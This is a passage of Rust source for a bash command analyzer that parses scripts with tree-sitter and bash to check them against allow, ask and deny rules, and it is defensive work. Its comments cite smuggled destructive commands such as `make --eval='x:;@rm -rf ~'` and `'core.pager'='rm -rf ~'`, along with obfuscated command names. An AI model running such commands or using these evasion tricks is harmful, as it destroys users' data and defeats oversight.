//! Parsing a script with tree-sitter-bash into the simple commands it runs.
//!
//! The walk accepts only what the matcher understands (`&&`, `||`, `;`, `|`, newlines, plain
//! words and quoted strings) and records a *hazard* for anything else, which caps the decision
//! at ask. Independently it collects every command it can see anywhere (inside substitutions,
//! subshells, compound statements, wrapper arguments and `sh -c` strings) for deny and ask rules.

use std::cell::RefCell;

use tree_sitter::{Node, Parser};

use super::allow::covers;
use super::bash_reading::{Reading, Readings};
use super::builtins;
use super::glob;
use super::pattern::CommandPattern;
use super::runners;
use super::words::{
    decode_ansi_c, has_deceptive_chars, has_expansion_chars, unescape_bare, unescape_double_quoted,
};
use super::wrappers;

/// Scripts longer than this are not parsed: they are at most ask, and deny rules cannot be
/// ruled out.
pub const MAX_SCRIPT_BYTES: usize = 64 * 1024;
/// How deep `sh -c`, `eval` and wrappers may nest before the rest counts as unknown.
const MAX_DEPTH: usize = 6;
/// How deeply syntax may nest (subshells in subshells, substitutions in substitutions) before
/// the rest counts as unknown; keeps the walk's recursion bounded.
const MAX_NESTING: usize = 200;
/// How many commands the deny scan collects before the rest counts as unknown.
const MAX_COMMANDS: usize = 4096;
/// How many suffixes of a runner's (or an unmodelled program's) words are tried as the command
/// it runs; a command with more words counts as unknown beyond them. Keeps the scan linear.
const MAX_SUFFIXES: usize = 64;
/// How many times bash is asked for readings of scripts found in its previous readings (an
/// `sh -c` inside an `sh -c`, …) before the rest counts as unknown.
const MAX_READING_ROUNDS: usize = MAX_DEPTH + 2;
/// How many lines of a script bash does not read are tried, to find the lines that run before
/// its error.
const MAX_PREFIX_LINES: usize = 64;

/// What a script runs, as far as a static reading can tell.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Analysis {
    /// The top-level simple commands, in order: every one must match an allow rule.
    pub commands: Vec<Vec<String>>,
    /// For each of [`commands`](Self::commands), the shell pattern of every word that is an
    /// unquoted glob (`src/*.rs`), `None` for a plain word. Only a program's model can accept a
    /// glob, in a position it reads as paths.
    pub globs: Vec<Vec<Option<String>>>,
    /// Every command seen anywhere, including nested ones and wrapped ones: deny and ask rules
    /// are checked against each.
    pub everywhere: Vec<Vec<String>>,
    /// Why the script can be at most ask, first found first. Empty for a plain script.
    pub hazards: Vec<String>,
    /// Part of the script could not be read statically (a variable, a substitution's value, a
    /// parse error, a depth limit), so a deny rule could match what actually runs.
    pub opaque: bool,
    /// Part of the script runs commands that cannot be read at all (a shell reading standard
    /// input, a builtin evaluating an argument that expands, a program run by `s///e`): every
    /// deny and ask rule on commands could match it, in every mode. The reason, first found.
    pub unreadable: Option<String>,
    /// Commands with a shell pattern among their words (`c[u]rl`, `/usr/bin/cu*`), every word
    /// written as a pattern (literal characters escaped): deny and ask rules match whatever
    /// they could expand to.
    pub patterns: Vec<Vec<String>>,
    /// Words found inside the arguments of programs that may run them and have no model to
    /// say how (`rm` in `make --eval='x:;@rm -rf ~'`, `python -c`, `ssh HOST CMD`): a deny or
    /// ask rule whose program could be one of them cannot be ruled out.
    pub mentions: Vec<String>,
}

impl Analysis {
    /// Whether the script uses only constructs the matcher understands.
    pub fn is_plain(&self) -> bool {
        self.hazards.is_empty()
    }

    /// Whether a deny or ask rule on commands could match anything the script runs: a command
    /// anywhere (read the way its option parser reads it), a command named by a pattern that
    /// could expand to a match, or a part that cannot be read at all.
    pub fn caught_by(&self, pattern: &CommandPattern) -> bool {
        self.unreadable.is_some()
            || self
                .everywhere
                .iter()
                .any(|words| pattern.could_match(words))
            || self
                .patterns
                .iter()
                .any(|words| pattern.could_match_pattern(words))
            || pattern.could_be_among(&self.mentions)
    }

    /// Whether an allow rule covers the top-level command `index`: the rule's words match, and
    /// every word after them is explained (see [`covers`]).
    pub fn covered_by(&self, index: usize, pattern: Option<&CommandPattern>) -> bool {
        let Some(words) = self.commands.get(index) else {
            return false;
        };
        let globs = self.globs.get(index).map(Vec::as_slice).unwrap_or_default();
        covers(pattern, words, globs).is_ok()
    }

    /// Adds what deny and ask rules must see from `other`, another reading of the same
    /// script: its commands anywhere, its patterns, and whether part of it is unknown.
    fn merge_deny_scan(&mut self, other: &Analysis) {
        for words in &other.everywhere {
            if !self.everywhere.contains(words) {
                self.everywhere.push(words.clone());
            }
        }
        for words in &other.patterns {
            if !self.patterns.contains(words) {
                self.patterns.push(words.clone());
            }
        }
        for word in &other.mentions {
            if !self.mentions.contains(word) {
                self.mentions.push(word.clone());
            }
        }
        self.opaque |= other.opaque;
        if self.unreadable.is_none() {
            self.unreadable.clone_from(&other.unreadable);
        }
    }

    fn unreadable(&mut self, why: impl Into<String>) {
        let why = why.into();
        self.hazard(why.clone());
        self.opaque = true;
        self.unreadable.get_or_insert(why);
    }

    fn hazard(&mut self, why: impl Into<String>) {
        let why = why.into();
        if !self.hazards.contains(&why) {
            self.hazards.push(why);
        }
    }
}

thread_local! {
    static PARSER: RefCell<Option<Parser>> = const { RefCell::new(None) };
}

/// Parses `script` with tree-sitter-bash. `None` when the parser is unavailable.
fn parse(script: &str) -> Option<tree_sitter::Tree> {
    PARSER.with(|cell| {
        let mut slot = cell.borrow_mut();
        if slot.is_none() {
            let mut parser = Parser::new();
            parser
                .set_language(&tree_sitter_bash::LANGUAGE.into())
                .ok()?;
            *slot = Some(parser);
        }
        slot.as_mut()?.parse(script, None)
    })
}

/// Only parses `script`, for benchmarks that compare against the full check.
pub fn parse_only(script: &str) -> bool {
    parse(script).is_some()
}

/// Reads `script` as bash reads it.
///
/// Unless nothing in the text could hide another part of it, bash itself reads the script
/// first, without running it (docs/permission-design.md, "How commands are read"), and the
/// analysis works on that reading: comments and line continuations are gone. Of a script bash
/// does not read as one whole, the lines before its error are read, since `bash -c` runs
/// them. Scripts found inside (`sh -c`, `eval`, an alias) are read by bash too. Deny rules
/// also see tree-sitter's reading of the text as written.
pub fn analyze(script: &str) -> Analysis {
    if script.contains('\0') {
        // No shell can be handed it: it never runs as written.
        let mut analysis = walk(script, None).0;
        analysis.hazard("the command holds a NUL byte, which no shell can be given");
        return finish(analysis);
    }
    let mut readings = Readings::default();
    // The first walk, before bash read anything, is tree-sitter's reading of the text as
    // written; it finds the scripts bash must read.
    let (written, mut missing) = walk(script, Some(&readings));
    if missing.is_empty() {
        // Nothing for bash to read: nothing in it could be hidden from tree-sitter.
        return finish(written);
    }
    for _ in 0..MAX_READING_ROUNDS {
        readings.read(missing);
        let (mut analysis, more) = walk(script, Some(&readings));
        if more.is_empty() {
            analysis.merge_deny_scan(&written);
            return finish(analysis);
        }
        missing = more;
    }
    let mut analysis = walk(script, Some(&readings)).0;
    analysis.merge_deny_scan(&written);
    analysis.unreadable("scripts nested in scripts too deeply for bash to read them all");
    finish(analysis)
}

/// [`analyze`], with each bash that reads started fresh (a fork of this process, walled, then
/// `exec`), as before sealed spares waited ready. Only for benchmarks that compare the two;
/// the verdict is the same.
pub fn analyze_cold_bash(script: &str) -> Analysis {
    super::bash_reading::with_start(super::bash_reading::Start::Cold, || analyze(script))
}

/// tree-sitter's reading of `script` alone, as the analysis read before bash read first.
/// Only for benchmarks and differential tests, never for a verdict: it can disagree with
/// bash.
pub fn tree_sitter_reading(script: &str) -> Analysis {
    finish(walk(script, None).0)
}

fn finish(mut analysis: Analysis) -> Analysis {
    if analysis.commands.is_empty() && analysis.hazards.is_empty() {
        analysis.hazard("the command is empty");
    }
    analysis
}

/// One walk over `script`, with bash's readings where they are known (`None`: tree-sitter's
/// reading of the text alone). Also returns the scripts the walk met that bash has not read.
fn walk(script: &str, readings: Option<&Readings>) -> (Analysis, Vec<String>) {
    let mut analysis = Analysis::default();
    let mut walker = Walker {
        out: &mut analysis,
        readings,
        missing: Vec::new(),
        depth: 0,
        nesting: 0,
        guessing: false,
        fd_glued: false,
        in_suffix: false,
    };
    walker.script(script, true);
    let missing = walker.missing;
    (analysis, missing)
}

struct Walker<'a> {
    out: &'a mut Analysis,
    /// bash's readings of the scripts met so far; `None` reads with tree-sitter alone.
    readings: Option<&'a Readings>,
    /// Scripts met that bash has not read yet.
    missing: Vec<String>,
    /// Levels of `sh -c`, `eval` and wrappers.
    depth: usize,
    /// Levels of syntax within one script.
    nesting: usize,
    /// Reading text that *might* run (the arguments of a program without a model, an
    /// assignment's value) for deny rules only: what is found there is checked against deny
    /// and ask rules, but adds no hazard.
    guessing: bool,
    /// The next command's last word is the file descriptor of a redirection glued to it.
    fd_glued: bool,
    /// Recording the suffixes of a runner's words: each is tried already, so a suffix's own
    /// suffixes are not guessed at again.
    in_suffix: bool,
}

/// A word's value after quote removal, and whether that value is known before running.
struct Word {
    text: String,
    known: bool,
    /// The word as a shell pattern, when it has an unquoted `*`, `?`, `[…]` or brace.
    pattern: Option<String>,
}

impl Word {
    fn new(text: String, known: bool) -> Self {
        Self {
            text,
            known,
            pattern: None,
        }
    }

    /// The word as a pattern that matches only what it could expand to.
    fn as_pattern(&self) -> String {
        self.pattern
            .clone()
            .unwrap_or_else(|| glob::escape(&self.text))
    }
}

/// Whether the text between two nodes is only line continuations, so bash joins them into one
/// word (`c\<newline>url` is `curl`).
fn continues(gap: &str, before: &str) -> bool {
    let rest = gap.replace("\\\n", "");
    rest.is_empty() || (rest == "\n" && before.ends_with('\\'))
}

impl Walker<'_> {
    fn hazard(&mut self, why: impl Into<String>) {
        if !self.guessing {
            self.out.hazard(why);
        }
    }

    fn opaque(&mut self) {
        if !self.guessing {
            self.out.opaque = true;
        }
    }

    fn unreadable(&mut self, why: impl Into<String>) {
        self.out.unreadable(why);
    }

    /// A limit of the walk was reached: what lies beyond is unknown, guessing or not.
    fn limit(&mut self, why: impl Into<String>) {
        self.out.hazard(why);
        self.out.opaque = true;
    }

    /// Parses `text` for deny rules only, one level deeper.
    fn guess(&mut self, text: &str) {
        if self.depth >= MAX_DEPTH {
            self.limit("commands nested too deeply to check");
            return;
        }
        let was = self.guessing;
        self.guessing = true;
        self.depth += 1;
        self.script(text, false);
        self.depth -= 1;
        self.guessing = was;
    }

    fn script(&mut self, script: &str, top: bool) {
        // A script of its own: its commands are not suffixes of the runner that holds it.
        let was = std::mem::replace(&mut self.in_suffix, false);
        self.script_inner(script, top);
        self.in_suffix = was;
    }

    fn script_inner(&mut self, script: &str, top: bool) {
        if self.depth > MAX_DEPTH {
            self.limit("commands nested too deeply to check");
            self.opaque();
            return;
        }
        if script.len() > MAX_SCRIPT_BYTES {
            self.limit(format!(
                "the command is longer than {MAX_SCRIPT_BYTES} bytes"
            ));
            self.opaque();
            return;
        }
        let Some(readings) = self.readings else {
            self.read(script, top, false);
            return;
        };
        if self.guessing {
            // Text that may run (an assignment's value, a here-document, a runner's
            // argument): read as written for deny rules, and every word in it could be a
            // program, whatever a comment or quote might hide from that reading.
            self.mention(std::slice::from_ref(&script.to_owned()));
            self.read(script, top, false);
            return;
        }
        if inert_chars(script)
            && !has_deceptive_chars(script)
            && let Some(tree) = parse(script)
            && !tree.root_node().has_error()
        {
            // No character that could hide another: tree-sitter's reading is bash's.
            self.statement(tree.root_node(), script, top);
            return;
        }
        match readings.get(script) {
            Some(Reading::Read(body)) => self.read(body, top, true),
            Some(Reading::Refused(why)) => {
                self.hazard(why.clone());
                self.opaque();
                // A guess may well not be shell at all; deny rules read it as written.
                if self.guessing {
                    self.read(script, top, false);
                } else {
                    self.ran_before_error(script, readings);
                }
            }
            Some(Reading::Unavailable(why)) => {
                self.unreadable(why.clone());
                self.read(script, top, false);
            }
            None => {
                self.missing.push(script.to_owned());
                self.read(script, top, false);
            }
        }
    }

    /// A script bash does not read as one whole still runs, under `bash -c`, every line before
    /// the one with its error (bash reads a line, runs it, reads the next): the longest run of
    /// whole lines bash reads is walked, as what may run.
    fn ran_before_error(&mut self, script: &str, readings: &Readings) {
        let prefixes = line_prefixes(script);
        if prefixes.len() >= MAX_PREFIX_LINES {
            self.unreadable(format!(
                "bash does not read the command, and it has too many lines (over {MAX_PREFIX_LINES}) to find which run before its error"
            ));
            return;
        }
        let mut longest = None;
        for prefix in prefixes {
            match readings.get(prefix) {
                Some(Reading::Read(body)) => longest = Some(body),
                Some(_) => {}
                None => self.missing.push(prefix.to_owned()),
            }
        }
        if let Some(body) = longest {
            self.read(body, false, true);
        }
    }

    /// Parses `text` and walks it; `from_bash` when it is bash's printed reading, which has no
    /// comments and parses cleanly, so anything else there is a misreading.
    fn read(&mut self, text: &str, top: bool, from_bash: bool) {
        if has_deceptive_chars(text) {
            self.hazard("the command contains control, zero-width or bidirectional characters");
        }
        let Some(tree) = parse(text) else {
            self.limit("the shell parser is unavailable");
            self.opaque();
            return;
        };
        let root = tree.root_node();
        if from_bash {
            if let Some(why) = misread(root, text) {
                self.unreadable(why);
            }
        } else if root.has_error() {
            self.hazard("the command does not parse");
            self.opaque();
            if has_expansion_chars(text) && !self.guessing {
                self.out
                    .unreadable("a pattern or brace expansion in a command that does not parse");
            }
        }
        self.statement(root, text, top);
    }

    fn statement(&mut self, node: Node<'_>, src: &str, top: bool) {
        if !self.enter() {
            return;
        }
        self.statement_inner(node, src, top);
        self.nesting -= 1;
    }

    /// Steps one level deeper into the syntax; `false` (and the script counts as unknown)
    /// past [`MAX_NESTING`].
    fn enter(&mut self) -> bool {
        if self.nesting >= MAX_NESTING {
            self.limit("the command nests too deeply to check");
            self.opaque();
            return false;
        }
        self.nesting += 1;
        true
    }

    fn statement_inner(&mut self, node: Node<'_>, src: &str, top: bool) {
        match node.kind() {
            "program" | "list" | "pipeline" => {
                let mut cursor = node.walk();
                for child in node.children(&mut cursor) {
                    if child.is_named() {
                        self.statement(child, src, top);
                    } else {
                        match child.kind() {
                            "&&" | "||" | ";" | "|" | "|&" | "\n" => {}
                            "&" => self.hazard("a background job `&`"),
                            other => self.hazard(format!("the operator `{other}`")),
                        }
                    }
                }
            }
            "comment" => {}
            "command" => self.command(node, src, top),
            "test_command" if self.bracket_test(node, src, top) => {}
            "variable_assignment" => {
                self.hazard(describe_construct("variable_assignment"));
                self.assignment(node, src);
            }
            "redirected_statement" => {
                // `sh 0< f`: digits glued to the first redirection are its file descriptor,
                // which tree-sitter leaves as the command's last argument.
                let mut cursor = node.walk();
                let children: Vec<Node<'_>> = node.named_children(&mut cursor).collect();
                if let [body, redirect, ..] = children.as_slice()
                    && body.kind() == "command"
                    && body.end_byte() == redirect.start_byte()
                    && src[..body.end_byte()].ends_with(|c: char| c.is_ascii_digit())
                {
                    self.fd_glued = true;
                }
                let mut cursor = node.walk();
                for child in node.named_children(&mut cursor) {
                    match child.kind() {
                        "file_redirect" | "heredoc_redirect" | "herestring_redirect" => {
                            self.redirect(child, src)
                        }
                        _ => self.statement(child, src, top),
                    }
                }
            }
            "ERROR" => {
                self.hazard("the command does not parse");
                self.opaque();
                if has_expansion_chars(&src[node.byte_range()]) && !self.guessing {
                    self.unreadable(
                        "a pattern or brace expansion in a command that does not parse",
                    );
                }
                self.nested(node, src);
            }
            kind => {
                self.hazard(describe_construct(kind));
                self.evaluated(node, src);
                self.nested(node, src);
            }
        }
    }

    /// Constructs that evaluate text as variable names, subscripts or arithmetic: when that
    /// text expands (`$`, a backtick) or holds a subscript, what runs cannot be read.
    fn evaluated(&mut self, node: Node<'_>, src: &str) {
        let raw = &src[node.byte_range()];
        let evaluates = match node.kind() {
            "declaration_command" | "unset_command" => raw.contains('[') && builtins::expands(raw),
            "test_command" => {
                raw.split_whitespace()
                    .any(|w| builtins::EVALUATING_TEST_OPERATORS.contains(&w))
                    && (raw.contains('[') && builtins::expands(raw) || raw.matches('[').count() > 2)
            }
            "arithmetic_expansion" | "c_style_for_statement" => {
                let inner = raw.trim_start_matches('$');
                builtins::expands(inner) || inner.matches('[').count() > 0
            }
            "compound_statement" if raw.starts_with("((") => {
                builtins::expands(raw) || raw.contains('[')
            }
            _ => false,
        };
        if evaluates {
            self.unreadable(format!(
                "{} evaluates text that expands when it runs",
                describe_construct(node.kind())
            ));
        }
    }

    /// Scans the children of a construct the matcher does not understand, for deny rules.
    fn nested(&mut self, node: Node<'_>, src: &str) {
        let mut cursor = node.walk();
        for child in node.named_children(&mut cursor) {
            match child.kind() {
                "command"
                | "redirected_statement"
                | "list"
                | "pipeline"
                | "subshell"
                | "compound_statement"
                | "if_statement"
                | "while_statement"
                | "for_statement"
                | "c_style_for_statement"
                | "case_statement"
                | "function_definition"
                | "negated_command"
                | "command_substitution"
                | "process_substitution"
                | "ERROR" => self.statement(child, src, false),
                // A plain name (`NAME=`) evaluates nothing; a subscript is a `subscript` node.
                "variable_name" => {}
                _ => {
                    self.word(child, src);
                }
            }
        }
    }

    fn command(&mut self, node: Node<'_>, src: &str, top: bool) {
        let mut words: Vec<Word> = Vec::new();
        // The end of the previous word node and its text, to join line continuations.
        let mut previous: Option<(usize, &str)> = None;
        let mut cursor = node.walk();
        for child in node.named_children(&mut cursor) {
            match child.kind() {
                "variable_assignment" => {
                    if !inert_assignment(child, src) {
                        self.hazard("an environment assignment `NAME=value` before a command");
                    }
                    self.assignment(child, src);
                    previous = None;
                }
                "file_redirect" | "heredoc_redirect" | "herestring_redirect" => {
                    // `sh 0< f`: digits glued to the operator are its file descriptor, which
                    // tree-sitter reads as an argument.
                    let glued = previous.is_some_and(|(end, before)| {
                        end == child.start_byte() && before.bytes().all(|b| b.is_ascii_digit())
                    });
                    if glued {
                        words.pop();
                    }
                    self.redirect(child, src);
                    previous = None;
                }
                kind => {
                    let inner = match child.named_child(0) {
                        Some(inner) if kind == "command_name" => inner,
                        _ => child,
                    };
                    let word = self.word(inner, src);
                    let joins = previous.is_some_and(|(end, before)| {
                        src.get(end..child.start_byte())
                            .is_some_and(|gap| continues(gap, before))
                    });
                    match words.last_mut() {
                        Some(last) if joins => {
                            let pattern = (last.pattern.is_some() || word.pattern.is_some())
                                .then(|| last.as_pattern() + &word.as_pattern());
                            last.text.push_str(&word.text);
                            last.known &= word.known;
                            last.pattern = pattern;
                        }
                        _ => words.push(word),
                    }
                    previous = Some((child.end_byte(), &src[child.byte_range()]));
                }
            }
        }
        if std::mem::take(&mut self.fd_glued) && words.len() > 1 {
            words.pop();
        }
        self.simple(words, top);
    }

    /// `[ EXPR ]`, which tree-sitter reads as a test expression: the simple command `[` with
    /// its words, for the model of `[` to judge. `None` when it is `[[ … ]]` or holds `<`/`>`
    /// (redirections inside `[ ]`).
    fn bracket_test(&mut self, node: Node<'_>, src: &str, top: bool) -> bool {
        let raw = &src[node.byte_range()];
        if raw.starts_with("[[") || !raw.starts_with('[') || raw.contains(['<', '>']) {
            return false;
        }
        let mut words = vec![Word::new("[".to_owned(), true)];
        self.leaves(node, src, &mut words);
        // The outer brackets are leaves of the node itself.
        if words.get(1).is_some_and(|w| w.text == "[") {
            words.remove(1);
        }
        if words.last().is_none_or(|w| w.text != "]") {
            words.push(Word::new("]".to_owned(), true));
        }
        self.simple(words, top);
        true
    }

    /// The words of a test expression, in order.
    fn leaves(&mut self, node: Node<'_>, src: &str, out: &mut Vec<Word>) {
        let mut cursor = node.walk();
        for child in node.children(&mut cursor) {
            match child.kind() {
                "binary_expression"
                | "unary_expression"
                | "parenthesized_expression"
                | "negated_expression" => self.leaves(child, src, out),
                "test_operator" => out.push(Word::new(src[child.byte_range()].to_owned(), true)),
                _ if child.is_named() => {
                    let word = self.word(child, src);
                    out.push(word);
                }
                _ => out.push(Word::new(src[child.byte_range()].to_owned(), true)),
            }
        }
    }

    /// A simple command's words, read: checked for allow rules when `top`, and recorded for
    /// deny rules.
    fn simple(&mut self, words: Vec<Word>, top: bool) {
        let Some(name) = words.first() else {
            self.hazard("an assignment without a command");
            return;
        };
        if !name.known {
            // `$CMD`, `r$""m`, `$(…)`: what runs is not known, so every deny rule could match.
            self.hazard("a variable or substitution in command position");
            self.opaque();
            if !self.guessing {
                self.unreadable("the command name is not a literal word");
            }
        }
        if name.pattern.is_some() {
            self.hazard(format!(
                "the glob or brace pattern `{}` in command position",
                name.text
            ));
        }
        if words.iter().skip(1).any(|w| !w.known) {
            self.opaque();
        }
        let patterns = words
            .iter()
            .any(|w| w.pattern.is_some())
            .then(|| words.iter().map(Word::as_pattern).collect::<Vec<_>>());
        let known: Vec<bool> = words.iter().map(|w| w.known).collect();
        let globs: Vec<Option<String>> = words.iter().map(|w| w.pattern.clone()).collect();
        let words: Vec<String> = words.into_iter().map(|w| w.text).collect();
        if top && !self.guessing {
            self.out.commands.push(words.clone());
            self.out.globs.push(globs);
        }
        self.record(words, &known, patterns.as_deref(), false);
    }

    /// Scans an assignment for deny rules. Its value may be run by whatever reads the
    /// variable (`PAGER`, `GIT_EXTERNAL_DIFF`, `*_COMMAND`, `PS4` with `set -x`, a subscript
    /// evaluated in `(( x ))`), so it is parsed as a command line, and so is the text after
    /// its first `=` (`TAR_OPTIONS='--to-command=…'`).
    fn assignment(&mut self, node: Node<'_>, src: &str) {
        self.nested(node, src);
        let Some(value) = node.child_by_field_name("value") else {
            return;
        };
        let name = node
            .child_by_field_name("name")
            .map(|n| src[n.byte_range()].to_owned())
            .unwrap_or_default();
        let word = self.word(value, src);
        if !word.known {
            // Its substitutions were scanned as they are; nothing more is known.
            return;
        }
        let text = word.text.trim_start_matches(['|', '!']);
        if runners::FILE_RUNNING_VARIABLES.contains(&name.as_str()) && runners::is_stdin_path(text)
        {
            self.unreadable(format!("`{name}` names standard input as a script to run"));
        }
        if text.trim().is_empty() {
            return;
        }
        self.guess(text);
        if let Some((_, after)) = text.split_once('=') {
            let after = after.trim_start_matches(['|', '!']);
            if !after.trim().is_empty() {
                self.guess(after);
            }
        }
    }

    /// Adds a command to the deny scan, with what its wrappers and `-c` strings run.
    /// `speculative` when the command is a suffix of a runner's arguments that is most likely
    /// an argument of the inner command (`xargs grep sh`): it is still checked against deny
    /// rules, but its reading of standard input does not make the script unreadable.
    fn record(
        &mut self,
        words: Vec<String>,
        known: &[bool],
        patterns: Option<&[String]>,
        speculative: bool,
    ) {
        if self.out.everywhere.len() >= MAX_COMMANDS {
            self.limit("too many commands to check");
            return;
        }
        if let Some(patterns) = patterns {
            self.out.patterns.push(patterns.to_vec());
        }
        let inspection = wrappers::inspect(&words, known);
        for hazard in inspection.hazards {
            self.hazard(hazard);
        }
        if let Some(why) = inspection.unreadable {
            if speculative {
                self.hazard(why);
            } else {
                self.unreadable(why);
            }
        }
        self.out.everywhere.push(words.clone());
        if inspection.runner_like || inspection.runs_arguments {
            self.mention(&words[1..]);
        }
        if self.depth >= MAX_DEPTH {
            if !inspection.inner_scripts.is_empty() || inspection.runs_arguments {
                self.limit("commands nested too deeply to check");
            }
            return;
        }
        self.depth += 1;
        for script in inspection.inner_scripts {
            self.script(&script, false);
        }
        for script in inspection.guessed_scripts {
            self.guess(&script);
        }
        // A command name that holds a command line or `NAME=value` (a runner's `PAGER=rm`, the
        // word `'core.pager'='rm -rf ~'` of a guessed value) is read as one too.
        if let Some(name) = words.first() {
            if let Some((_, after)) = name.split_once('=')
                && !after.trim().is_empty()
            {
                self.guess(after.trim_start_matches(['|', '!']));
            }
            if name.contains(char::is_whitespace) {
                self.guess(name);
            }
        }
        if inspection.runs_arguments {
            // The runner runs some suffix of its arguments; try every one that could be a
            // command name. A word holding a replacement string (`{}`) is filled in later.
            let known: Vec<bool> = words
                .iter()
                .zip(known)
                .map(|(w, k)| *k && !runners::is_placeholder(w, &inspection.placeholders))
                .collect();
            if words.len() > MAX_SUFFIXES {
                self.limit("too many words after a runner to check");
            }
            // Every suffix is tried here, so a suffix's own suffixes need no second guess.
            let was = std::mem::replace(&mut self.in_suffix, true);
            for start in 1..words.len().min(MAX_SUFFIXES) {
                if self.out.everywhere.len() >= MAX_COMMANDS {
                    self.limit("too many commands to check");
                    break;
                }
                if !words[start].starts_with('-') {
                    self.record(
                        words[start..].to_vec(),
                        known.get(start..).unwrap_or_default(),
                        patterns.and_then(|p| p.get(start..)),
                        speculative || !command_position(&words, start),
                    );
                }
            }
            self.in_suffix = was;
        } else if !self.in_suffix && inspection.runner_like {
            self.guess_runner(&words, known, patterns);
        }
        self.depth -= 1;
    }

    /// Records every word inside `args` (split at anything that cannot be part of a program's
    /// name: blanks, quotes, `;`, `@`, `(`, `=`, …) as a possible program name.
    fn mention(&mut self, args: &[String]) {
        for arg in args {
            for word in arg.split(|c: char| {
                !(c.is_alphanumeric() || matches!(c, '_' | '-' | '.' | '+' | '/' | '~'))
            }) {
                let word = word.trim_start_matches('-');
                if word.is_empty() || self.out.mentions.iter().any(|m| m == word) {
                    continue;
                }
                if self.out.mentions.len() >= MAX_COMMANDS {
                    self.unreadable("too many words inside arguments to check");
                    return;
                }
                self.out.mentions.push(word.to_owned());
            }
        }
    }

    /// A program without a model might run any of its arguments (`setarch x86_64 CMD`,
    /// `valgrind CMD`, `gdb -ex 'shell CMD'`, `make --eval=…`): every suffix of its words and
    /// every word that reads as a command line is checked against deny rules. A shell reading
    /// standard input within its first three words makes the script unreadable.
    fn guess_runner(&mut self, words: &[String], known: &[bool], patterns: Option<&[String]>) {
        if words.len() > MAX_SUFFIXES {
            self.limit("too many words after a program without a model to check");
        }
        let was = self.guessing;
        self.guessing = true;
        let was_suffix = std::mem::replace(&mut self.in_suffix, true);
        for start in 1..words.len().min(MAX_SUFFIXES) {
            if self.out.everywhere.len() >= MAX_COMMANDS {
                self.limit("too many commands to check");
                break;
            }
            if words[start].starts_with('-') {
                continue;
            }
            let plausible = leading_plain_words(words, start) <= 2;
            self.record(
                words[start..].to_vec(),
                known.get(start..).unwrap_or_default(),
                patterns.and_then(|p| p.get(start..)),
                !plausible,
            );
        }
        self.in_suffix = was_suffix;
        for word in words.iter().take(MAX_SUFFIXES) {
            let text = if word.starts_with('-') {
                runners::attached_value(word)
            } else {
                Some(word.as_str())
            };
            if let Some(text) = text.filter(|t| wrappers::looks_like_script(t)) {
                self.guess(text);
            }
        }
        self.guessing = was;
    }

    fn redirect(&mut self, node: Node<'_>, src: &str) {
        if node.kind() != "file_redirect" {
            self.hazard("a here-document or here-string");
            self.nested(node, src);
            // What it feeds may be a shell (`sh 0<<< 'CMD'`): its text is read for deny rules.
            let mut cursor = node.walk();
            let bodies: Vec<String> = node
                .named_children(&mut cursor)
                .filter(|c| {
                    !matches!(
                        c.kind(),
                        "heredoc_start" | "heredoc_end" | "file_descriptor"
                    )
                })
                .map(|c| {
                    let raw = &src[c.byte_range()];
                    match c.kind() {
                        "raw_string" => strip(raw, 1, 1).to_owned(),
                        "string" => unescape_double_quoted(strip(raw, 1, 1)),
                        _ => raw.to_owned(),
                    }
                })
                .collect();
            for body in bodies {
                if !body.trim().is_empty() {
                    self.guess(&body);
                }
            }
            return;
        }
        let mut operator = "";
        let mut target: Option<Word> = None;
        let mut cursor = node.walk();
        for child in node.children(&mut cursor) {
            if !child.is_named() {
                operator = child.kind();
            } else if child.kind() != "file_descriptor" {
                let word = self.word(child, src);
                if !word.known {
                    self.opaque();
                }
                target = Some(word);
            }
        }
        let Some(target) = target else {
            self.hazard("a redirection without a target");
            return;
        };
        let duplicates_fd = matches!(operator, ">&" | "<&")
            && (target.text == "-" || target.text.bytes().all(|b| b.is_ascii_digit()));
        let discards = matches!(operator, ">" | ">>" | "&>" | "&>>" | ">|")
            && target.known
            && target.text == "/dev/null";
        if !(duplicates_fd || discards) {
            self.hazard(format!(
                "a redirection `{operator}` to the file `{}`",
                target.text
            ));
        }
    }

    fn word(&mut self, node: Node<'_>, src: &str) -> Word {
        if !self.enter() {
            return Word::new(src[node.byte_range()].to_owned(), false);
        }
        let word = self.word_inner(node, src);
        self.nesting -= 1;
        word
    }

    fn word_inner(&mut self, node: Node<'_>, src: &str) -> Word {
        let raw = &src[node.byte_range()];
        match node.kind() {
            "word" => {
                // A glob is no hazard by itself: only a program's model can accept it, in a
                // position it reads as paths (see `covers`).
                let mut word = Word::new(unescape_bare(raw), true);
                if has_expansion_chars(raw) {
                    word.pattern = Some(raw.replace("\\\n", ""));
                }
                word
            }
            "number" => Word::new(raw.to_owned(), true),
            "raw_string" => Word::new(strip(raw, 1, 1).to_owned(), true),
            "string" | "translated_string" => {
                if node.kind() == "translated_string" {
                    self.hazard("a locale-translated string `$\"…\"`");
                }
                let mut known = true;
                let mut cursor = node.walk();
                for child in node.named_children(&mut cursor) {
                    if child.kind() != "string_content" {
                        known &= self.word(child, src).known;
                    }
                }
                let inner = if node.kind() == "translated_string" {
                    strip(raw, 2, 1)
                } else {
                    strip(raw, 1, 1)
                };
                Word::new(unescape_double_quoted(inner), known)
            }
            "ansi_c_string" => {
                self.hazard("ANSI-C quoting `$'…'`");
                match decode_ansi_c(strip(raw, 2, 1)) {
                    Some(text) => Word::new(text, true),
                    None => Word::new(raw.to_owned(), false),
                }
            }
            "concatenation" => {
                // Only unquoted pieces expand (`--include='*.rs'` is no glob); a quoted piece
                // stands in as a plain character.
                let mut unquoted = String::new();
                let mut cursor = node.walk();
                for child in node.children(&mut cursor) {
                    if !child.is_named() || child.kind() == "word" {
                        unquoted.push_str(&src[child.byte_range()]);
                    } else {
                        unquoted.push('x');
                    }
                }
                let globbed = has_expansion_chars(&unquoted);
                let mut text = String::new();
                let mut pattern = String::new();
                let mut known = true;
                let mut cursor = node.walk();
                for child in node.children(&mut cursor) {
                    let piece = &src[child.byte_range()];
                    if child.is_named() {
                        let part = self.word(child, src);
                        known &= part.known;
                        text.push_str(&part.text);
                        if child.kind() == "word" {
                            pattern.push_str(&piece.replace("\\\n", ""));
                        } else {
                            pattern.push_str(&part.as_pattern());
                        }
                    } else {
                        // `$""` and `$''` glued into a word: bash reads them as quoting that
                        // this reading does not model, so the word is not known.
                        let quote_follows = src
                            .get(child.end_byte()..)
                            .is_some_and(|rest| rest.starts_with(['"', '\'']));
                        known &= !(piece == "$" && quote_follows);
                        text.push_str(piece);
                        pattern.push_str(piece);
                    }
                }
                Word {
                    text,
                    known,
